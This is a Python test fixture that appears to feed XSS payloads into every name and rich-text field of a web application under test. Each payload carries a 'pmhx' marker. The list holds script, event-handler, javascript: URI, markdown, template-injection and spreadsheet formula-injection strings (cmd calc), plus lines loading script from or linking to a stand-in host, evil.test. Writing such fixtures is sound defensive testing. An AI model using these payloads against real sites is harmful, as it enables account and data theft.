"""XSS payloads entered into every name / rich-text field (see test_xss.py). Each carries the
marker `pmhx` so the checker can tell a payload's element from the page's own markup."""

MARKER = "pmhx"

PAYLOADS = [
    "<script>alert('pmhx')</script>",
    "\"><script>alert('pmhx')</script>",
    "'><script src=//evil.test/pmhx.js></script>",
    "<img src=x onerror=alert('pmhx')>",
    "<svg onload=alert('pmhx')>",
    "<svg><script>alert('pmhx')</script></svg>",
    "<body onload=alert('pmhx')>",
    "<iframe src=\"javascript:alert('pmhx')\"></iframe>",
    "<a href=\"javascript:alert('pmhx')\">pmhx</a>",
    "<a href=\"JaVaScRiPt:alert('pmhx')\">pmhx</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">pmhx</a>",
    "[pmhx](javascript:alert('pmhx'))",
    "[pmhx](data:text/html,<script>alert('pmhx')</script>)",
    "![pmhx](javascript:alert('pmhx'))",
    "<details open ontoggle=alert('pmhx')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('pmhx')>",
    "{{ 7*7 }} {% debug %} pmhx",
    "=HYPERLINK(\"http://evil.test\",\"pmhx\")",
    "+cmd|'/c calc'!A0 pmhx",
    "@SUM(1+1)*cmd|' /C calc'!A0 pmhx",
    "-2+3+cmd|' /C calc'!A0 pmhx",
    "\tpmhx=1+1",
    "</textarea><script>alert('pmhx')</script>",
    "</title><script>alert('pmhx')</script>",
    "<style>@import 'javascript:alert(\"pmhx\")';</style>",
    "\" onmouseover=\"alert('pmhx')",
    "' onfocus='alert(`pmhx`)' autofocus='",
]
